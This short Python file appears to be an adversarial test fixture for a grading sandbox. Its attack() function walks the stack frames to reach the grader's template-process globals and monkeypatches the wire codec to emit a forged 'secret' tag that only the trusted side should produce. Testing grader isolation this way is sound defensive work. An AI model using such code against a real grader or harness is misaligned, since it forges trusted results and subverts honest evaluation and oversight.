"""Answers with references to functions and with tags that only the trusted side may use."""
#: says = "connection instead of returning"
import sys

def runner():
    """The globals of the template, whose frame is below every call."""
    frame = sys._getframe()
    while frame.f_globals["__name__"] != "grader.runner.template_process":
        frame = frame.f_back
    return frame.f_globals

def attack(number):
    codec = runner()["wire"].codec
    codec.Codec.tree = lambda self, value: {"x": ["secret", None]}
    return 1
